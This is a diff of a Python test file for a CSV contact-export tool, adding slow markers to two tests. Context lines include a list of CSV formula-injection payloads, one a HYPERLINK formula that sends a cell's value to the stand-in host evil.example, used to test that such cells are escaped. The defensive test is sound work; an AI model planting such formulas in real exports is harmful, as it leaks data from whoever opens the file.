@@ -70,6 +70,7 @@ def test_connections_export_works_as_is(tmp_path: Path):
     assert records[0]["line"] == 5 and records[0]["row"] == 1
 
 
+@pytest.mark.slow
 def test_headers_map_by_name_case_and_spaces_and_quoted_newlines_survive(tmp_path: Path):
     source = write(
         tmp_path / "people.csv",
@@ -320,6 +321,7 @@ def test_company_names_filled_by_the_merge_are_no_link_or_placeholder(tmp_path: 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
 
 
+@pytest.mark.slow
 def test_csv_cells_that_start_like_formulas_are_written_as_text(tmp_path: Path):
     """Every cell (input columns, header, the note itself) that would run as a formula gets a leading quote."""
     template(tmp_path / "tpl", "{{ event }}: great meeting you there, {{ first_name }}.", id="event-first")
